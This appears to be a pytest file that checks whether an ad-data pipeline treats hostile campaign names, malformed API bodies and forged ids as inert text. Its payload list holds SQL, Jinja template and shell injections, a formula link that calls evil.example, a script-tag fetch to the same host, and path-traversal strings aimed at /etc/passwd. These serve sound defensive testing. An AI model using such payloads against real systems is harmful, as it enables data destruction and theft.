"""Answers that mean harm, or are damaged in ways that look like it: they land as text or not at all, and nothing runs."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import duckdb
import pytest
from fake_platforms.meta import TOKEN, Meta, made_up
from fake_platforms.server import Reply, Request, answer
from support.commands import PROJECT_DIR, cli, dbt, land, rows
from support.meta_ads import TODAY, WEEK, extract, has_landed

from common.settings import Settings

CANARY = "pwned-by-a-name"
NAMES = (
    "'; drop table marts.campaigns; --",
    f"x' || (select content from read_text('/etc/hostname')) || '; copy (select 1) to '{CANARY}.csv'; --",
    "{{ env_var('META_ACCESS_TOKEN') }} {% do run_query('drop schema marts cascade') %} ${HOME} $(id) `id`",
    '=HYPERLINK("http://evil.example/?x="&A1,"PIG1987 - NEON DRIFT")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f"../../../../../{CANARY}",
    f"C:\\..\\..\\{CANARY}\0.json",
    "<script>fetch('http://evil.example')</script>",
    "a\r\nname,with\ttabs;\u2028and\x1blines",
    "\u202eGNP.DAORB - TFIRD NOEN",
    "PIG1987 - " + "NEON " * 20_000 + "- BROAD",
    "𝕻𝖎𝖌1987 – NEON DRIFT – 👩‍👩‍👧‍👦",
)


def outside(config: Settings) -> set[str]:
    """What lies beside the data folder and in the project, by path."""
    places = (config.data_dir.parent, PROJECT_DIR)
    skipped = (str(config.data_dir), str(PROJECT_DIR / ".git"))
    found = (str(path) for place in places for path in place.rglob("*"))
    return {one for one in found if not one.startswith(skipped) and "__pycache__" not in one and ".pytest_cache" not in one}


def test_names_are_text_wherever_they_go(config: Settings) -> None:
    config.data_dir.parent.mkdir(exist_ok=True)
    before = outside(config)
    account = made_up(TODAY)
    with Meta(TODAY, [account]) as portal:
        template = account.ads[0]
        account.ads = [
            type(template)(10 + number, 10 + number, name, template.first, template.last) for number, name in enumerate(NAMES)
        ]
        done = extract(config, portal, "--since", WEEK)
        assert (done.returncode, done.stderr) == (0, ""), done.stderr
    assert {name for (name,) in rows(config, "meta_ads", "campaigns", "name")} == set(NAMES)
    assert {name for (name,) in rows(config, "meta_ads", "insights_daily", "campaign_name")} == set(NAMES)
    built = dbt(
        config.data_dir, "build", "--indirect-selection", "cautious", "--exclude-resource-type", "unit_test",
        "--select", "+ad_performance_daily",
    )  # fmt: skip
    assert built.returncode == 0, built.stdout[-3000:]
    with duckdb.connect(str(config.data_dir / "warehouse" / "dev" / "bedrot.duckdb"), read_only=True) as con:
        found = con.execute("select campaign_name, parsed_track from marts.campaigns order by campaign_id").fetchall()
        assert {name for name, _ in found} == set(NAMES)
        assert TOKEN not in str(found) and not any("run_query" in str(track or "") and "{%" not in track for _, track in found)
        days = con.execute("select count(*), count(distinct campaign_id) from marts.ad_performance_daily").fetchall()
        assert days == [(6 * len(NAMES), len(NAMES))]
    for command in ("verify", "replay"):
        assert cli(config.data_dir, command).returncode == 0
    assert outside(config) == before and not list(Path("/").glob(f"{CANARY}*"))


@pytest.mark.parametrize(
    ("body", "exit_code", "said"),
    [
        ('{"data":' + "[" * 200_000 + "]" * 200_000 + "}", 5, "no whole JSON"),
        ('{"error":' + '{"a":' * 200_000 + "1" + "}" * 200_001, 5, "no whole JSON"),
        ('{"data":[{"id":' + "9" * 5_000 + "}]}", 5, "no whole JSON"),
        ("[]", 5, "something else than an object"),
        ('"data"', 5, "something else than an object"),
        ('{"data":[{"id":"1","paging":1}],"paging":{"next":7}}', 5, "another host"),
        ('{"data":[{"id":"1"}],"paging":{"next":"http://[::1"}}', 5, "another host"),
        ('{"data":[{"id":"1"}],"paging":{"next":"file:///etc/passwd"}}', 5, "another host"),
        ('{"data":[{"id":"1"}],"paging":{"next":"https://graph.facebook.com.evil.example/x"}}', 5, "another host"),
        ('{"data":[{"id":"1"}],"paging":{"next":"https://graph.facebook.com/x","cursors":[]}}', 5, "without a cursor"),
        ('{"data":{"id":"1"}}', 6, "JSON of another kind"),
        ('{"data":[1,null,"x"]}', 6, "JSON of another kind"),
        ('{"data":[{"id":"1","name":"a","status":"A","effective_status":"A","objective":"O","_row_sha":"x"}]}', 6, "'_row_sha'"),
        ('{"data":[{"id":"1","name":"a","status":"A","effective_status":"A","objective":"O","":"x"}]}', 6, "can't be columns"),
        ('{"data":[{"id":"1","name":"a","status":"A","effective_status":"A","objective":"O","a\\u0000":"x"}]}', 6, "columns"),
        ('{"data":[{"id":"1","name":"a","status":"A","effective_status":"A","objective":"O","NAME":"x"}]}', 6, "'NAME'"),
        ('{"error":[1]}', 6, "JSON of another kind"),
        ('{"error":{"code":"190","message":{"a":1}}}', 5, "refused"),
        ('{"error":{"code":[1],"error_subcode":{},"message":null}}', 5, "refused"),
    ],
)
def test_bodies_that_are_no_answer(config: Settings, body: str, exit_code: int, said: str) -> None:
    with Meta(TODAY, [made_up(TODAY)]) as portal:
        portal.fail("/campaigns", "status", status=200, content=body.encode(), headers={"Content-Type": "application/json"})
        done = extract(config, portal, "--since", WEEK, BEDROT_TRIES="2")
        assert done.returncode == exit_code and said in done.stderr, done.stderr
        assert done.stderr.count("\n") == 1 and done.stdout.count("landed") == 4
        assert len([one for one in portal.requests if "passwd" in one.path]) == 0
    assert not has_landed(config, "campaigns")
    assert len(list(config.quarantine_dir.glob("*"))) == (exit_code == 6)


def test_an_answer_nested_as_deep_as_can_be_lands_or_is_refused(config: Settings, box: Path) -> None:
    head = '[{"id":"1","name":"a","status":"A","effective_status":"A","objective":"O","targeting":'
    for depth in range(700, 1_000, 12):
        path = box / f"campaigns_{depth}" / "campaigns.json"
        path.parent.mkdir()
        path.write_text(f"{head}{'[' * depth}{depth}{']' * depth}}}]", encoding="utf-8")
        assert land(config, path)[0].status in ("landed", "quarantined")


def test_a_body_declared_or_sent_without_measure_ends(config: Settings) -> None:
    limits = {"BEDROT_ANSWER_SECONDS": "2", "BEDROT_FAILING_SECONDS": "5", "BEDROT_TRIES": "2"}
    with Meta(TODAY, [made_up(TODAY)]) as portal:
        declared = '{"data":[]}'
        portal.fail("/adsets", "status", status=200, content=declared.encode(), headers={"Content-Length": str(300 << 20)})
        portal.fail("/campaigns", "endless")
        started = time.monotonic()
        done = extract(config, portal, "--since", WEEK, **limits)
        assert done.returncode == 5 and time.monotonic() - started < 40, done.stderr
        assert done.stdout.count("landed") == 3
    assert not has_landed(config, "campaigns") and not has_landed(config, "adsets")


@pytest.mark.parametrize(
    "number", ["../../../../etc/passwd", "1/../../act_1", "", None, "7?access_token=x", {"a": 1}, "x" * 3_000]
)
def test_an_id_in_an_answer_is_no_path(config: Settings, number: Any) -> None:
    before = outside(config) if config.data_dir.parent.exists() else set()
    with Meta(TODAY, [made_up(TODAY)]) as portal:
        report = portal.start_report

        def start(request: Request, name: str) -> Reply:
            report(request, name)
            return answer({"report_run_id": number})

        portal.start_report = start
        portal.routes = [(method, one, handler) for method, one, handler in portal.routes if method != "POST"]
        portal.on("POST", r"/v([0-9]+)[.]0/(act_[0-9]+)/insights")(portal.checked(start))
        portal.on("GET", r"/v([0-9]+)[.]0/(act_[0-9]+)")(portal.checked(portal.account))
        done = extract(config, portal, "--since", "2026-06-10", BEDROT_TRIES="2")
        assert done.returncode == 5 and "insights" in done.stderr, done.stderr
        assert not [one for one in portal.requests if ".." in one.path or "etc" in one.path or "access_token" in one.query]
    assert {one for one in outside(config) - before if "__pycache__" not in one} <= {str(config.data_dir)}


def test_an_account_that_an_answer_states_is_no_path(config: Settings, box: Path) -> None:
    before = outside(config)
    path = box / "account.json"
    stated = {
        "id": f"act_../../../../{CANARY}", "name": "x", "currency": "USD", "timezone_name": "UTC",
        "timezone_offset_hours_utc": 0, "account_status": 1,
    }  # fmt: skip
    path.write_text(json.dumps(stated), encoding="utf-8")
    assert land(config, path)[0].status == "landed"
    assert rows(config, "meta_ads", "account", "_account") == [(stated["id"],)]
    assert outside(config) - before <= {str(config.data_dir), str(path)}
    assert not [one for one in config.data_dir.rglob("*") if CANARY in one.name]
